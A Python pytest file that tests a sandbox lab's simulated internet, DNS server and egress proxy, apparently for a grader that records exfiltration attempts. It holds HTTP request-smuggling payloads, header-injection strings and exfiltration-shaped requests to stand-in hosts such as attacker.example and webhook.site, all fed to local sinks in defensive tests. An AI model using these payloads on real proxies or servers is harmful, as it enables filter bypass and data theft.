"""The services image's programs, run for real on 127.0.0.1: the simulated internet and the egress proxy.

No Docker: ``internet.py`` and ``proxy.py`` start as subprocesses laid out flat
beside their neighbours (``common.py``, ``http1.py``, ``nameserver.py``, ``tls.py``,
``wire.py``, ``domains.py``), exactly as the image copies them, and the tests
talk to them over sockets and read the JSONL evidence they write.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest

from grader.backends.srt import free_ports
from grader.backends.docker.images import image_specs
from grader.protocol import common, wire
from grader.services import http1, nameserver, proxy
import fakewire

SERVICES = Path(__file__).resolve().parents[3] / "grader" / "services"
HOSTS = [
    "github.com", "gist.github.com", "api.github.com", "raw.githubusercontent.com",
    "registry.npmjs.org", "pypi.org", "files.pythonhosted.org", "upload.pypi.org",
    "attacker.example",
]  # fmt: skip
LOCALHOST = "127.0.0.1"


@dataclass(frozen=True)
class Services:
    internet_out: Path
    proxy_out: Path
    nonce: str
    dns: int
    http: int
    https: int
    tcp: int
    proxy: int


def _serves(dns: int, http: int, https: int, tcp: int, *names: str) -> dict[str, list[int]]:
    """Each server's ports as the world gives them (80 and 443 everywhere, the attacker also 53 and its raw
    port), in the ports these services listen on; ``names`` (extra names) serve the raw port only."""
    out = {h: [http, https] for h in HOSTS if h != "attacker.example"}
    return {**out, "attacker.example": [dns, http, https, tcp], **{n: [tcp] for n in names}}


def _world(dns: int, http: int, https: int, tcp: int, operators: list[str] | None = None,
           catch_all: str | None = None) -> dict[str, Any]:
    """The proxy's ``world`` config: the internet's server rule and ``_serves``, as the backends write it."""
    return {"serves": _serves(dns, http, https, tcp), "wildcard_zones": ["attacker.example"],
            "operators": operators or [], "catch_all": catch_all}


def _start(script: str, config: dict[str, Any], opt: Path, out_dir: Path) -> subprocess.Popen[bytes]:
    config_path = opt.parent / f"{script}.json"
    config_path.write_text(json.dumps(config))
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}  # the flat layout must suffice
    with open(opt.parent / f"{script}.log", "wb") as output:
        proc = subprocess.Popen(
            [sys.executable, str(opt / script), str(config_path)],
            cwd=opt, env=env, stdout=output, stderr=subprocess.STDOUT,
        )  # fmt: skip
    deadline = time.monotonic() + 10
    while not (out_dir / "ready").exists():
        if proc.poll() is not None or time.monotonic() > deadline:
            proc.kill()
            proc.wait()
            pytest.fail(f"{script} did not start:\n{(opt.parent / f'{script}.log').read_text()}")
        time.sleep(0.01)
    return proc


def _stop(proc: subprocess.Popen[bytes]) -> None:
    proc.terminate()
    try:
        proc.wait(timeout=5)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


@pytest.fixture(scope="module")
def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
    root = tmp_path_factory.mktemp("services")
    opt = root / "opt"  # stands in for /opt/sandbox-lab/ in the image
    opt.mkdir()
    for name, source in image_specs()["services"].files:  # what the services image holds, flat
        shutil.copy(source, opt / name)
    dns, http, https, tcp, proxy_port = free_ports(5)
    world = Services(root / "internet", root / "proxy", uuid.uuid4().hex, dns, http, https, tcp, proxy_port)
    procs: list[subprocess.Popen[bytes]] = []
    try:
        internet_config = {
            "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "extra_names": ["host.docker.internal"],
            "address": LOCALHOST, "bind": LOCALHOST, "dns_port": dns, "http_port": http, "https_port": https,
            "tcp_ports": [tcp], "out_dir": str(world.internet_out), "nonce": world.nonce,
            "serves": _serves(dns, http, https, tcp, "host.docker.internal"),
        }  # fmt: skip
        procs.append(_start("internet.py", internet_config, opt, world.internet_out))
        ready = json.loads((world.internet_out / "ready").read_text())
        assert ready["address"] == LOCALHOST and ready["pid"] == procs[0].pid
        proxy_config = {
            # 127.0.0.1 is listed on purpose: a listed IP literal is looked up like a name, never dialled.
            "allowed": ["registry.npmjs.org", "*.github.com", "127.0.0.1"], "denied": ["api.github.com"],
            "listen_port": proxy_port, "bind": LOCALHOST, "dns_server": LOCALHOST, "dns_port": dns,
            "out_dir": str(world.proxy_out), "world": _world(dns, http, https, tcp),
        }  # fmt: skip
        procs.append(_start("proxy.py", proxy_config, opt, world.proxy_out))
        yield world
    finally:
        for proc in procs:
            _stop(proc)


_KINDS = {"http.jsonl": wire.HttpRecord, "dns.jsonl": wire.DnsRecord, "tcp.jsonl": wire.TcpRecord, "proxy.jsonl": wire.ProxyRecord}


def _records(path: Path) -> list[dict[str, Any]]:
    """Every whole line of a service's log, each checked to be a record of its log's kind (as the grader reads it)."""
    if not path.exists():
        return []
    text = path.read_text(encoding="utf-8")
    lines = [line for line in text.splitlines(keepends=True) if line.endswith("\n")]
    for line in lines:
        wire.parse_record(_KINDS[path.name], line, path.name, skip=("seq",))
    return [json.loads(line) for line in lines]


def _wait_for(path: Path, match: Callable[[dict[str, Any]], bool], timeout: float = 3.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while True:
        found = [r for r in _records(path) if match(r)]
        if found:
            return found[-1]
        if time.monotonic() > deadline:
            pytest.fail(f"no matching record in {path.name}: {_records(path)[-5:]}")
        time.sleep(0.02)


def _exchange(port: int, data: bytes) -> bytes:
    """Send raw bytes, read until the server closes."""
    with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
        sock.sendall(data)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def _connect_through(services: Services, host: str, port: int) -> tuple[socket.socket, bytes]:
    """Open a CONNECT tunnel; return the socket and the proxy's response head."""
    sock = socket.create_connection((LOCALHOST, services.proxy), timeout=5)
    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(1)
        if not chunk:
            break
        head += chunk
    return sock, head


def _body_json(response: bytes) -> dict[str, Any]:
    result: dict[str, Any] = json.loads(response.split(b"\r\n\r\n", 1)[1])
    return result


# --- nameserver (dnslib), pure -----------------------------------------------------------------------


def test_nameserver_round_trip() -> None:
    query = nameserver.parse_query(nameserver.build_query(0x1234, "GitHub.com."))
    assert query is not None and query.qname == "github.com" and query.qtype == nameserver.TYPE_A
    answer = nameserver.parse_response(nameserver.build_response(query, addresses=["10.0.0.7"]))
    assert (answer.id, answer.rcode, answer.addresses) == (0x1234, 0, ("10.0.0.7",))
    nx = nameserver.parse_response(nameserver.build_response(query, nameserver.RCODE_NXDOMAIN))
    assert (nx.rcode, nx.addresses) == (nameserver.RCODE_NXDOMAIN, ())


@pytest.mark.parametrize(
    "packet",
    [
        b"",
        b"\x00" * 11,
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01",  # points at itself
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x20" + b"\x00" * 40,  # points forwards
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x3fabc",  # label past the end
        b"\x12\x34\x81\x80\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01",  # a response
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x01a" * 200 + b"\x00\x00\x01\x00\x01",
    ],
    ids=["empty", "short-header", "pointer-loop", "forward-pointer", "truncated-label", "response", "too-long"],
)
def test_nameserver_rejects_malformed_queries(packet: bytes) -> None:
    assert nameserver.parse_query(packet) is None


# --- the HTTP head parser, pure ------------------------------------------------------------


def test_parse_head_reads_a_request_and_a_response() -> None:
    head = http1.parse_head(b"GET http://x.example/a?b HTTP/1.1\r\nHost: x.example\r\nX-A: 1\r\nx-a:  2 \r\n\r\n", 10)
    assert head.start == ("GET", "http://x.example/a?b", "HTTP/1.1")
    assert head.headers == (("Host", "x.example"), ("X-A", "1"), ("x-a", "2"))  # names as sent, in order
    assert head.values("X-a") == ["1", "2"] and head.value("host") == "x.example" and head.value("te") is None
    response = http1.parse_head(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", 10, response=True)
    assert response.start == ("HTTP/1.1", "502", "Bad Gateway")  # the reason may hold spaces


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\r\n\r\n",
        b"GET\r\n\r\n",
        b"GET /\r\n\r\n",
        b"GET  HTTP/1.1\r\n\r\n",  # no target
        b" / HTTP/1.1\r\n\r\n",  # no method
        b"GET / FTP/1.0\r\n\r\n",
        b"GET /a b HTTP/1.1\r\n\r\n",  # a space inside the target
        b"GET / HTTP/1.1 extra\r\n\r\n",
        b"GET / HTTP/1.1\r\nno colon here\r\n\r\n",
        b"GET / HTTP/1.1\r\n: no name\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost : x\r\n\r\n",  # space before the colon: a smuggling trick
        b"GET / HTTP/1.1\r\nX-A: 1\r\n folded\r\n\r\n",  # obsolete line folding
        b"\xff\xfe / HTTP/1.1\n\n",  # not a token, and bare newlines
        b"GET / HTTP/1.1\nX-Injected: 1\r\n\r\n",  # a bare LF inside the version
        b"GET /\x00 HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nX-A: 1\nX-Injected: 2\r\n\r\n",  # a bare LF inside a value
        b"GET / HTTP/1.1\r\nX-A: 1\x00\r\n\r\n",
    ],
    ids=["empty", "blank", "method-only", "no-version", "no-target", "no-method", "not-http", "space-in-target",
         "extra-field", "no-colon", "no-name", "space-before-colon", "folded", "bare-newlines", "lf-in-version",
         "nul-in-target", "lf-in-value", "nul-in-value"],
)
def test_parse_head_refuses_malformed_requests(raw: bytes) -> None:
    with pytest.raises(http1.BadHead):
        http1.parse_head(raw, 10)


def test_parse_head_refuses_a_response_line_as_a_request_and_the_reverse() -> None:
    with pytest.raises(http1.BadHead):
        http1.parse_head(b"HTTP/1.1 200 OK\r\n\r\n", 10)
    with pytest.raises(http1.BadHead):
        http1.parse_head(b"GET / HTTP/1.1\r\n\r\n", 10, response=True)
    with pytest.raises(http1.BadHead):
        http1.parse_head(b"HTTP/1.1 two hundred OK\r\n\r\n", 10, response=True)


def test_parse_head_caps_the_number_of_headers() -> None:
    raw = b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: y\r\n" % i for i in range(11)) + b"\r\n"
    with pytest.raises(http1.TooLarge):
        http1.parse_head(raw, 10)
    assert len(http1.parse_head(raw, 11).headers) == 11


# --- the simulated internet ----------------------------------------------------------------


def test_dns_answers_world_hosts_and_wildcard_zones(services: Services) -> None:
    known = ["github.com", "registry.npmjs.org", "host.docker.internal", "x1y2.attacker.example",
             "a.b.c.attacker.example", "ATTACKER.example"]  # fmt: skip
    for name in known:
        assert nameserver.query_a(LOCALHOST, name, services.dns) == [LOCALHOST], name
    for name in ["example.org", "evilattacker.example", "github.com.evil.org"]:
        assert nameserver.query_a(LOCALHOST, name, services.dns) == [], name

    logged = {(r["qname"], r["answered"]) for r in _records(services.internet_out / "dns.jsonl") if "qname" in r}
    assert {(n.lower(), True) for n in known} <= logged
    assert {("example.org", False), ("evilattacker.example", False)} <= logged


def test_dns_answers_other_types_of_known_names_with_no_records(services: Services) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(nameserver.build_query(7, "github.com", nameserver.TYPE_AAAA), (LOCALHOST, services.dns))
        answer = nameserver.parse_response(sock.recv(4096))
    assert (answer.id, answer.rcode, answer.addresses) == (7, nameserver.RCODE_NOERROR, ())


def test_malformed_dns_is_logged_and_does_not_kill_the_server(services: Services) -> None:
    garbage = [b"\xff" * 40, b"\x00", b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01"]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for packet in garbage:
            sock.sendto(packet, (LOCALHOST, services.dns))
    assert nameserver.query_a(LOCALHOST, "pypi.org", services.dns) == [LOCALHOST]
    malformed = [r for r in _records(services.internet_out / "dns.jsonl") if r.get("malformed")]
    assert len(malformed) >= len(garbage)
    assert all(r["client"] == LOCALHOST and isinstance(r["t"], float) for r in malformed)


def test_https_certificate_is_issued_by_the_run_ca_only(services: Services) -> None:
    ca = services.internet_out / "ca.pem"
    assert "PRIVATE" not in ca.read_text()
    strict = ssl.create_default_context(cafile=str(ca))
    strict.verify_flags |= ssl.VERIFY_X509_STRICT  # the default from Python 3.13 on
    with socket.create_connection((LOCALHOST, services.https), timeout=5) as raw:
        with strict.wrap_socket(raw, server_hostname="deadbeef.attacker.example") as tls:
            tls.sendall(b"GET /w HTTP/1.1\r\n\r\n")  # no Host: the SNI names the host
            assert _body_json(tls.recv(4096))["host"] == "deadbeef.attacker.example"
    with socket.create_connection((LOCALHOST, services.https), timeout=5) as raw:
        with pytest.raises(ssl.SSLCertVerificationError):
            ssl.create_default_context().wrap_socket(raw, server_hostname="github.com")


def test_raw_tcp_lands_in_the_sink(services: Services) -> None:
    token = uuid.uuid4().hex
    with socket.create_connection((LOCALHOST, services.tcp), timeout=5) as sock:
        sock.sendall(f"exfil {token}".encode())
        sock.shutdown(socket.SHUT_WR)
        assert sock.recv(100) == f"ok {services.nonce}\n".encode()
    record = _wait_for(services.internet_out / "tcp.jsonl", lambda r: token in r["data"])
    assert record["port"] == services.tcp and record["client"] == LOCALHOST


# --- the proxy -------------------------------------------------------------------------------


def test_http_post_through_the_proxy_lands_in_the_sink(services: Services) -> None:
    token = uuid.uuid4().hex
    body = f'{{"name": "pkg", "readme": "{token}"}}'.encode()
    response = _exchange(
        services.proxy,
        f"POST http://registry.npmjs.org:{services.http}/-/publish/{token}?v=1 HTTP/1.1\r\n"
        f"Host: attacker.example\r\nContent-Type: application/json\r\n"  # a lying Host header
        f"Content-Length: {len(body)}\r\nProxy-Connection: keep-alive\r\n\r\n".encode() + body,
    )
    assert response.startswith(b"HTTP/1.1 200 ")
    assert _body_json(response) == {"ok": True, "host": "registry.npmjs.org", "nonce": services.nonce}
    record = _wait_for(services.internet_out / "http.jsonl", lambda r: token in r["path"])
    assert record["scheme"] == "http" and record["method"] == "POST"
    # The proxy rewrote Host from the URL, so the sink saw the host the proxy judged.
    assert record["host"] == "registry.npmjs.org"
    assert record["path"] == f"/-/publish/{token}?v=1"
    assert record["body"] == body.decode() and record["body_len"] == len(body)
    decision = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["method"] == "POST")
    assert decision["decision"] == "allow" and decision["host"] == "registry.npmjs.org"
    assert decision["port"] == services.http


def test_a_chunked_post_through_the_proxy_arrives_whole_and_alone(services: Services) -> None:
    """h11 decodes the chunks; the origin gets the body with a Content-Length, and nothing pipelined behind it."""
    token = uuid.uuid4().hex
    response = _exchange(
        services.proxy,
        f"POST http://gist.github.com:{services.http}/up/{token} HTTP/1.1\r\nHost: gist.github.com\r\n"
        f"Transfer-Encoding: chunked\r\n\r\n5;ext=1\r\nhello\r\n{len(token):x}\r\n{token}\r\n0\r\nX-T: 1\r\n\r\n"
        f"GET /behind/{token} HTTP/1.1\r\nHost: attacker.example\r\n\r\n".encode(),
    )
    assert response.startswith(b"HTTP/1.1 200 ")
    record = _wait_for(services.internet_out / "http.jsonl", lambda r: r["path"] == f"/up/{token}")
    assert (record["body"], record["body_len"]) == ("hello" + token, 5 + len(token))
    _exchange(services.proxy, f"GET http://gist.github.com:{services.http}/after/{token} HTTP/1.1\r\n\r\n".encode())
    _wait_for(services.internet_out / "http.jsonl", lambda r: r["path"] == f"/after/{token}")
    assert not [r for r in _records(services.internet_out / "http.jsonl") if f"/behind/{token}" in r["path"]]


def test_a_chunked_post_to_the_sink_is_recorded_decoded(services: Services) -> None:
    token = uuid.uuid4().hex
    response = _exchange(services.http, f"POST /c/{token} HTTP/1.1\r\nHost: pypi.org\r\nTransfer-Encoding: chunked\r\n"
                                        f"\r\n{len(token):x}\r\n{token}\r\n0\r\n\r\n".encode())  # fmt: skip
    assert response.startswith(b"HTTP/1.1 200 ")
    record = _wait_for(services.internet_out / "http.jsonl", lambda r: r["path"] == f"/c/{token}")
    assert (record["host"], record["body"]) == ("pypi.org", token)


def test_a_chunked_body_over_the_cap_is_sent_on_cut_never_refused(services: Services) -> None:
    """A real proxy delivers a big upload to an allowed host: refusing it would read as "blocked". The
    proxy sends its first MAX_CHUNKED_BODY bytes on and says so; the sink keeps what it always keeps."""
    token = uuid.uuid4().hex
    size = proxy.MAX_CHUNKED_BODY + 100
    _exchange(services.proxy, f"POST http://gist.github.com:{services.http}/big/{token} HTTP/1.1\r\n"
                              f"Transfer-Encoding: chunked\r\n\r\n{size:x}\r\n".encode()
              + token.encode() + b"x" * (size - len(token)) + b"\r\n0\r\n\r\n")  # fmt: skip
    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["path"] == f"/big/{token}")
    assert record["decision"] == "allow" and "chunked body cut at" in record["reason"]
    arrived = _wait_for(services.internet_out / "http.jsonl", lambda r: r["path"] == f"/big/{token}")
    assert arrived["body"].startswith(token)


# Request smuggling: a request whose body's end two parsers could read differently. Each shape is answered
# 400, logged as a denial with the reason, and never reaches the simulated internet.
_SMUGGLING = {
    "content-length-and-chunked": ("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{behind}",
                                   "both Transfer-Encoding and Content-Length"),
    "two-content-lengths": ("Content-Length: 0\r\nContent-Length: {n}\r\n\r\n{behind}", "Content-Length"),
    "bad-chunk-size": ("Transfer-Encoding: chunked\r\n\r\nzz\r\n{behind}\r\n0\r\n\r\n", "chunk"),
    # h11 before 0.16 read any two bytes after a chunk's data as its CRLF (CVE-2025-43859); Debian's 0.14.0-1.1~deb12u1
    # carries the fix, which tests/integration/test_images.py checks in the image
    "chunk-overrun": ("Transfer-Encoding: chunked\r\n\r\n3\r\nabcXX0\r\n\r\n{behind}", "chunk"),
    "signed-chunk-size": ("Transfer-Encoding: chunked\r\n\r\n-1\r\n{behind}\r\n0\r\n\r\n", "chunk"),
    "obs-fold": ("X-A: 1\r\n Transfer-Encoding: chunked\r\nContent-Length: {n}\r\n\r\n{behind}", "malformed header line"),
    "chunked-not-last": ("Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{behind}", "Transfer-Encoding"),
    "bare-lf-header": ("X-A: 1\nTransfer-Encoding: chunked\r\nContent-Length: {n}\r\n\r\n{behind}", "malformed header line"),
}


@pytest.mark.parametrize("shape", sorted(_SMUGGLING))
def test_request_smuggling_shapes_are_refused_logged_and_never_forwarded(services: Services, shape: str) -> None:
    token = uuid.uuid4().hex
    headers, reason = _SMUGGLING[shape]
    behind = f"GET /smuggled/{token} HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
    request = (f"POST http://gist.github.com:{services.http}/front/{token} HTTP/1.1\r\nHost: gist.github.com\r\n"
               + headers.format(behind=behind, n=len(behind)))  # fmt: skip
    log = services.proxy_out / "proxy.jsonl"
    before = len(_records(log))
    response = _exchange(services.proxy, request.encode())
    assert response.startswith(b"HTTP/1.1 400 "), response[:80]
    deadline = time.monotonic() + 3
    while not (refusals := [r for r in _records(log)[before:] if r["reason"].startswith("malformed request: ")]):
        assert time.monotonic() < deadline, _records(log)[before:]
        time.sleep(0.02)
    assert refusals[0]["decision"] == "deny" and reason in refusals[0]["reason"], refusals
    # a head that does not parse has no method on record; one whose body does not frame has its host
    assert refusals[0]["method"] in ("", "POST") and refusals[0]["host"] in (None, "gist.github.com")
    # nothing reached the internet: a request sent after it arrives, and neither of the refused ones did
    _exchange(services.proxy, f"GET http://gist.github.com:{services.http}/after/{token} HTTP/1.1\r\n\r\n".encode())
    _wait_for(services.internet_out / "http.jsonl", lambda r: r["path"] == f"/after/{token}")
    assert not [r for r in _records(services.internet_out / "http.jsonl") if token in r["path"] and "after" not in r["path"]]


@pytest.mark.parametrize("shape", ["content-length-and-chunked", "two-content-lengths", "bad-chunk-size", "obs-fold"])
def test_request_smuggling_shapes_sent_to_the_sink_are_400_and_kept_as_raw_evidence(services: Services, shape: str) -> None:
    token = uuid.uuid4().hex
    headers, _reason = _SMUGGLING[shape]
    behind = f"GET /smuggled/{token} HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
    request = f"POST /front/{token} HTTP/1.1\r\nHost: pypi.org\r\n" + headers.format(behind=behind, n=len(behind))
    response = _exchange(services.http, request.encode())
    assert response.startswith(b"HTTP/1.1 400 "), response[:80]
    record = _wait_for(services.internet_out / "http.jsonl", lambda r: token in r["body"] or token in r["path"])
    assert f"/smuggled/{token}" in record["body"]  # the raw bytes, as received: evidence, never a second request
    assert not [r for r in _records(services.internet_out / "http.jsonl") if r["path"] == f"/smuggled/{token}"]


def test_https_through_connect_verifies_and_lands_in_the_sink(services: Services) -> None:
    token = uuid.uuid4().hex
    sock, head = _connect_through(services, "gist.github.com", services.https)
    with sock:
        assert head.startswith(b"HTTP/1.1 200")
        context = ssl.create_default_context(cafile=str(services.internet_out / "ca.pem"))
        with context.wrap_socket(sock, server_hostname="gist.github.com") as tls:
            tls.sendall(f"PUT /gists/{token} HTTP/1.1\r\nHost: gist.github.com\r\n"
                        "Content-Length: 6\r\n\r\nsecret".encode())  # fmt: skip
            response = b""
            while chunk := tls.recv(4096):
                response += chunk
    assert _body_json(response)["nonce"] == services.nonce
    record = _wait_for(services.internet_out / "http.jsonl", lambda r: token in r["path"])
    assert (record["scheme"], record["host"], record["method"], record["body"]) == (
        "https", "gist.github.com", "PUT", "secret",
    )  # fmt: skip


def test_tunnel_carries_raw_tcp_and_half_close(fail_closed: Services) -> None:
    """To a name of the attacker's server (webhook.site: the world does not know it), on its raw port."""
    token = uuid.uuid4().hex
    sock, head = _connect_through(fail_closed, "webhook.site", fail_closed.tcp)
    with sock:
        assert head.startswith(b"HTTP/1.1 200")
        sock.sendall(token.encode())
        sock.shutdown(socket.SHUT_WR)  # the sink answers once the client has finished
        assert sock.recv(100) == f"ok {fail_closed.nonce}\n".encode()
    record = _wait_for(fail_closed.internet_out / "tcp.jsonl", lambda r: r.get("data") == token)
    assert record["via"] == "webhook.site"


def test_denied_host_gets_403_and_is_never_resolved(services: Services) -> None:
    host = f"leak-{uuid.uuid4().hex[:12]}.attacker.example"
    sock, head = _connect_through(services, host, services.https)
    sock.close()
    assert head.startswith(b"HTTP/1.1 403")
    response = _exchange(services.proxy, f"GET http://{host}:{services.http}/?d=c4n4ry HTTP/1.1\r\n\r\n".encode())
    assert response.startswith(b"HTTP/1.1 403")
    assert f"blocked by sandbox policy: {host}".encode() in response
    denials = [r for r in _records(services.proxy_out / "proxy.jsonl") if r["host"] == host]
    assert [(r["method"], r["decision"]) for r in denials] == [("CONNECT", "deny"), ("GET", "deny")]
    assert denials[0]["reason"] == "not in the allowed list"
    assert (denials[0]["path"], denials[1]["path"]) == (None, "/?d=c4n4ry")
    # Decided before resolving: the run's DNS server never heard the name.
    assert all(r.get("qname") != host for r in _records(services.internet_out / "dns.jsonl"))


def test_wildcard_allows_subdomains_but_not_the_bare_domain(services: Services) -> None:
    gist = _exchange(services.proxy, f"GET http://gist.github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
    bare = _exchange(services.proxy, f"GET http://github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
    assert gist.startswith(b"HTTP/1.1 200") and _body_json(gist)["host"] == "gist.github.com"
    assert bare.startswith(b"HTTP/1.1 403")


def test_denied_entry_wins_over_a_matching_wildcard(services: Services) -> None:
    response = _exchange(services.proxy, f"GET http://API.github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
    assert response.startswith(b"HTTP/1.1 403")
    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "api.github.com")
    assert (record["decision"], record["reason"], record["cause"]) == ("deny", 'matches denied entry "api.github.com"', "denied")


def test_a_listed_ip_literal_is_looked_up_like_a_name_never_dialled(services: Services) -> None:
    # This internet has no catch-all (see ``fail_closed`` for the backends' one): no server answers it.
    sock, head = _connect_through(services, LOCALHOST, services.http)
    sock.close()
    assert head.startswith(b"HTTP/1.1 502")
    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == LOCALHOST)
    assert (record["decision"], record["port"], record["cause"]) == ("allow", services.http, "no-such-host") and "NXDOMAIN" in record["reason"]
    _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == LOCALHOST and r["answered"] is False)


def test_invalid_and_non_proxy_requests_get_400(services: Services) -> None:
    bad_host = _exchange(services.proxy, b"CONNECT bad_host!:443 HTTP/1.1\r\n\r\n")
    origin_form = _exchange(services.proxy, b"GET /index.html HTTP/1.1\r\nHost: github.com\r\n\r\n")
    assert bad_host.startswith(b"HTTP/1.1 400") and origin_form.startswith(b"HTTP/1.1 400")
    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "bad_host!")
    assert (record["decision"], record["reason"], record["cause"]) == ("deny", "invalid host", "invalid-host")


def test_allowed_host_missing_from_the_world_gets_502(services: Services) -> None:
    response = _exchange(services.proxy, f"GET http://nope.github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
    assert response.startswith(b"HTTP/1.1 502")
    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "nope.github.com")
    assert record["decision"] == "allow" and record["cause"] == "no-such-host" and "NXDOMAIN" in record["reason"]
    # The lookup went to the run's DNS server, not the host's resolver.
    _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == "nope.github.com")


def test_a_warm_proxy_fails_closed_until_its_policy_file_arrives(services: Services, tmp_path: Path) -> None:
    """A proxy started ahead of need refuses everything until the backend writes its run's lists."""
    opt = services.proxy_out.parent / "opt"
    out = tmp_path / "warm"
    policy = tmp_path / "policy.json"
    (port,) = free_ports(1)
    config = {"allowed": [], "policy_file": str(policy), "listen_port": port, "bind": LOCALHOST,
              "dns_server": LOCALHOST, "dns_port": services.dns, "out_dir": str(out),
              "world": _world(services.dns, services.http, services.https, services.tcp)}  # fmt: skip
    proc = _start("proxy.py", config, opt, out)
    request = f"GET http://registry.npmjs.org:{services.http}/x HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n".encode()
    try:
        assert _exchange(port, request).startswith(b"HTTP/1.1 403")  # no file yet: refused
        tmp = tmp_path / "policy.tmp"
        tmp.write_text(json.dumps({"allowed": ["registry.npmjs.org"], "denied": []}))
        os.replace(tmp, policy)
        assert _exchange(port, request).startswith(b"HTTP/1.1 200")  # the run's list, read at once
        policy.write_text("{not json")
        assert _exchange(port, request).startswith(b"HTTP/1.1 403")  # unreadable: closed again
        for wrong in ({"allowed": ["registry.npmjs.org"], "denied": [], "widen": True}, {"allowed": "registry.npmjs.org", "denied": []}):
            policy.write_text(json.dumps(wrong))
            assert _exchange(port, request).startswith(b"HTTP/1.1 403"), wrong  # not exactly the lists: closed
    finally:
        _stop(proc)


# --- the proxy as srt's parent: any host, only the sinks' ports ------------------------------


@pytest.fixture()
def parent_proxy(services: Services, tmp_path: Path) -> Iterator[tuple[int, Path]]:
    """The proxy as the srt backend runs it: every name passes, each port goes to its sink's loopback port."""
    opt = services.proxy_out.parent / "opt"
    out = tmp_path / "parent"
    (port,) = free_ports(1)
    config = {"allowed": [], "any_host": True, "listen_port": port, "bind": LOCALHOST,
              "dns_server": LOCALHOST, "dns_port": services.dns, "out_dir": str(out),
              "upstream_ports": {"80": services.http, "443": services.https, "4444": services.tcp},
              "world": _world(53, 80, 443, 4444)}  # the world's own ports: srt asks for them  # fmt: skip
    proc = _start("proxy.py", config, opt, out)
    try:
        yield port, out / "proxy.jsonl"
    finally:
        _stop(proc)


@pytest.mark.parametrize("down", ["name server", "listener"])
def test_an_allowed_request_the_internet_never_answered_is_logged_as_such(services: Services, tmp_path: Path,
                                                                         down: str) -> None:
    """The proxy allows the request, but the simulated internet does not answer: no name server where the proxy
    asks, or no listener where it dials. Its record says ``internet-unreachable`` (the grader then trusts none of
    the internet's silence: ``runs.unreached``), never the ``upstream-failed`` a fact of the world gets."""
    opt = services.proxy_out.parent / "opt"
    out = tmp_path / "proxy"
    port, nothing = free_ports(2)  # ``nothing``: a port where no one listens, for UDP and TCP alike
    config = {"allowed": ["*.github.com"], "listen_port": port, "bind": LOCALHOST, "dns_server": LOCALHOST,
              "dns_port": nothing if down == "name server" else services.dns, "out_dir": str(out),
              "world": _world(services.dns, services.http, services.https, services.tcp)}  # fmt: skip
    if down == "listener":  # the world's ports as this internet serves them, but the proxy dials elsewhere
        config["upstream_ports"] = {str(services.http): nothing, str(services.https): nothing}
    proc = _start("proxy.py", config, opt, out)
    try:
        response = _exchange(port, f"GET http://gist.github.com:{services.http}/x HTTP/1.1\r\n\r\n".encode())
        assert response.startswith(b"HTTP/1.1 502"), response[:200]
        record = _wait_for(out / "proxy.jsonl", lambda r: r["host"] == "gist.github.com")
    finally:
        _stop(proc)
    assert (record["decision"], record["cause"]) == ("allow", "internet-unreachable"), record


def test_the_parent_proxy_lets_any_known_name_through_to_its_sink(services: Services, parent_proxy: tuple[int, Path]) -> None:
    port, log = parent_proxy
    token = uuid.uuid4().hex
    # pypi.org is in no allowlist here: srt's proxy in front has decided already
    response = _exchange(port, f"GET http://pypi.org/simple/{token} HTTP/1.1\r\n\r\n".encode())
    assert response.startswith(b"HTTP/1.1 200") and _body_json(response)["host"] == "pypi.org"
    _wait_for(services.internet_out / "http.jsonl", lambda r: token in r["path"] and r["host"] == "pypi.org")
    record = _wait_for(log, lambda r: r["host"] == "pypi.org")
    assert record["decision"] == "allow" and record["port"] == 80
    with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
        sock.sendall(b"CONNECT x1.attacker.example:4444 HTTP/1.1\r\n\r\n")
        assert sock.recv(64).startswith(b"HTTP/1.1 200")
